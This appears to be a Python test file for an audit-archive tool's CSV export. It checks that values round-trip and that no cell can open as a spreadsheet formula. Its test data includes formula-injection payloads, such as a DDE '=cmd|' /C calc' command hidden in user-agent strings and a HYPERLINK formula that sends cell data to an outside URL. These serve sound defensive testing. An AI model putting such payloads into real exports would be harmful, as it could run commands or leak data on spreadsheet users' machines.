"""CSV: what is written is read again, and no spreadsheet runs it."""

import csv
import io
import json
import re
from base64 import b64encode
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from audit_archive.adapters.machine import find_zone
from audit_archive.format.canonical import canonical_bytes, source_line
from audit_archive.retrieve.rows import (
    BYTE_ORDER_MARK,
    COLUMNS,
    CSV_HEADER,
    FIELDS,
    LineOrigin,
    csv_row,
    harmless,
    times_of,
)
from tests.support.examples import examples
from tests.support.rows import all_rows

VALUES = st.recursive(
    st.one_of(st.text(max_size=8), st.none(), st.booleans(), st.integers(-9, 9)),
    lambda inner: st.lists(inner, max_size=2) | st.dictionaries(st.text(max_size=3), inner, max_size=2),
    max_leaves=4,
)
TIMES, HERE, AGAIN = COLUMNS[2:5], LineOrigin("c", 1), LineOrigin("c", 2)
SEPARATORS = ",;|\t\n\v\f\r\x1c\x1d\x1e\x85\u2028\u2029"
STARTS = st.sampled_from(
    ["", "=", "+", "-", "@", "'", "\t", "\r", "\n", " ", "\u3000", "\uff1d", '"', "\x00", "''=", ";", "|"]
)
ENTRIES = st.dictionaries(
    st.sampled_from([*FIELDS, "new_field", "=1+1"]),
    st.one_of(VALUES, st.builds("{}{}{}".format, STARTS, STARTS, st.text("a=-;'\" \t\r\n\u2028é"))),
)


def read(row: bytes) -> list[str]:
    """The cells of one row, by the standard library."""
    (cells,) = csv.reader(io.StringIO(row.decode(), newline=""), strict=True)
    return cells


def value(cell: str) -> str:
    """What was in a cell before it was made harmless."""
    return re.sub(f"(^|[{SEPARATORS}])'", r"\1", cell)


def told(entry_value: Any) -> str:
    """A value as text, by the standard library."""
    if entry_value is None:
        return ""
    if isinstance(entry_value, str):
        return entry_value
    return json.dumps(entry_value, ensure_ascii=False, separators=(",", ":"), sort_keys=True)


@examples(60)
@given(ENTRIES, st.integers(1, 3))
def test_every_value_is_read_again(fields: dict[str, Any], epoch: int) -> None:
    entry = {"id": 7, **{name: v for name, v in fields.items() if name != "id"}}
    row = csv_row(canonical_bytes(entry), LineOrigin("c", epoch))
    assert row.endswith(b'"\r\n')
    cells = dict(zip(COLUMNS, map(value, read(row)), strict=True))
    assert cells.pop("epoch") == str(epoch)
    others = {name: v for name, v in entry.items() if name not in {"id", *FIELDS}}
    assert cells.pop("other_fields") == told(others or None)
    assert [cells.pop(name) for name in TIMES] == ["", "", ""]
    assert cells == {name: told(entry.get(name)) for name in ("id", *FIELDS)}


@examples(60)
@given(ENTRIES, st.sampled_from(SEPARATORS))
def test_no_cell_begins_as_a_formula_does_whatever_separates_cells(
    fields: dict[str, Any], separator: str
) -> None:
    """Also where a spreadsheet takes another separator than the comma, and knows nothing of our quotes."""
    row = csv_row(canonical_bytes({"id": 7} | fields), LineOrigin("c", 1)).decode()
    for cell in [*read(row.encode()), *row.split(separator)]:
        first = cell.lstrip().lstrip('\x00 \t\r\n"')[:1]
        assert first not in {"=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20"}
        assert first != "'" or cell.lstrip('"')[:1] == "'"
        assert cell[:1] not in {"\t", "\x00"}


@pytest.mark.parametrize("separator", list(";\t|\r\n"))
def test_a_user_agent_with_a_separator_in_it_is_no_formula(separator: str) -> None:
    agent = f"Mozilla{separator}=cmd|' /C calc'!A0{separator}x"
    row = csv_row(canonical_bytes({"id": 7, "user_browser_agent": agent}), LineOrigin("c", 1))
    assert f"Mozilla{separator}'=cmd|'' /C calc'!A0{separator}x".encode() in row
    assert value(read(row)[COLUMNS.index("user_browser_agent")]) == agent


@all_rows(
    ("timestamp", "zone", "expected"),
    [
        ("2026-11-23 09:01:02 UTC+0000", "UTC", ("2026-11-23 09:01:02", "2026-11-23 09:01:02", "UTC+00:00")),
        (
            "2026-07-01T22:30:00.5Z",
            "Europe/Berlin",
            ("2026-07-01 22:30:00", "2026-07-02 00:30:00", "UTC+02:00"),
        ),
        (
            "2026-01-01 00:00:00 UTC-0330",
            "America/St_Johns",
            ("2026-01-01 03:30:00", "2026-01-01 00:00:00", "UTC-03:30"),
        ),
        ("9999-12-31 23:00:00 UTC+0000", "Asia/Tokyo", ("9999-12-31 23:00:00", "", "")),
        ("yesterday", "UTC", ("", "", "")),
        (None, "UTC", ("", "", "")),
        (7, "UTC", ("", "", "")),
    ],
)
def test_times_are_those_that_a_spreadsheet_takes_for_a_date(
    timestamp: Any, zone: str, expected: tuple[str, str, str]
) -> None:
    offset_at = find_zone(zone)
    assert offset_at is not None
    assert times_of(timestamp, offset_at) == expected
    entry = {"id": 7, "timestamp": timestamp}
    cells = dict(
        zip(COLUMNS, read(csv_row(canonical_bytes(entry), LineOrigin("c", 1, offset_at))), strict=True)
    )
    assert tuple(cells[name] for name in TIMES) == expected
    assert cells["timestamp"] == told(timestamp)


def test_a_byte_order_mark_tells_excel_that_it_is_utf_8() -> None:
    assert CSV_HEADER.startswith(BYTE_ORDER_MARK)
    assert CSV_HEADER.decode("utf-8-sig").startswith('"epoch","id"')
    assert "nas-münchen" in csv_row(canonical_bytes({"id": 7, "message": "nas-münchen"}), HERE).decode()


@all_rows(
    "attack",
    [
        "=cmd|' /C calc'!A0",
        '=HYPERLINK("https://example.com?x="&A1,"click")',
        "+1+1",
        "-2+3",
        "@SUM(1+1)",
        "  =1+1",
        "\t=1+1",
        "\u00a0=1+1",
        "\uff1d1+1",
        "'=1+1",
        "\r\n=1+1",
    ],
)
def test_an_attacker_chooses_his_user_agent(attack: str) -> None:
    assert harmless(attack).startswith(f"'{attack[0]}")
    assert value(harmless(attack)) == attack


@all_rows(
    "text", ["", "alice@example.com", "2026-11-20", "a=b", 'say "hi"', "10.0.0.1", "é", "  x", "a;b, c|d\ne"]
)
def test_what_is_harmless_stays_as_it_is(text: str) -> None:
    assert harmless(text) == text


def test_a_cell_can_t_be_left_by_quotes_and_separators() -> None:
    agent = 'x","=1+1","\r\n"=2+2'
    row = csv_row(canonical_bytes({"id": 7, "user_browser_agent": agent}), HERE)
    assert value(read(row)[COLUMNS.index("user_browser_agent")]) == agent


def test_the_source_form_is_read_as_far_as_it_can_be_and_kept_whole() -> None:
    source = '{"id":7,"user":"=\\ud800","user_ip":1e999,"additional_information":{"a":[NaN]},"message":null}'
    cells = dict(zip(COLUMNS, read(csv_row(source_line(source.encode(), 7), AGAIN)), strict=True))
    assert (cells["epoch"], cells["id"], cells["user"], cells["user_ip"]) == ("2", "7", "'=\ufffd", "")
    assert cells["additional_information"] == ""
    assert json.loads(value(cells["other_fields"])) == {"_source": source}


def test_a_source_with_bad_bytes_is_read_as_far_as_it_can_be_and_kept_whole() -> None:
    source = b'{"id":7,"user":"=\xff\x01","user_ip":"192.0.2.7","message":"x\ny"}'
    cells = dict(zip(COLUMNS, read(csv_row(source_line(source, 7), AGAIN)), strict=True))
    assert (cells["user"], cells["user_ip"], cells["message"]) == ("'=\ufffd\x01", "192.0.2.7", "x\ny")
    assert json.loads(value(cells["other_fields"])) == {"_source_base64": b64encode(source).decode()}


def test_the_header_names_the_columns() -> None:
    assert read(CSV_HEADER.removeprefix(BYTE_ORDER_MARK)) == list(COLUMNS)
